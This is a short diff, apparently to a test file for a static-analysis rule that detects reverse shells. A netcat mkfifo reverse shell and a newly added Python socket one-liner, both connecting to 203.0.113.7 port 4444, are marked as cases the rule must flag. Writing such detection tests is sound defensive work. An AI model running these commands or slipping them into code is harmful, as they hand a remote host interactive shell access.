@@ -42,6 +42,11 @@ def netcat():
     subprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f", shell=True)
 
 
+def python_one_liner():
+    # ruleid: reverse-shell
+    subprocess.run(["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"])
+
+
 def redirect_logs_per_rank(log_path):
     log = open(log_path, "a")
     # ok: reverse-shell
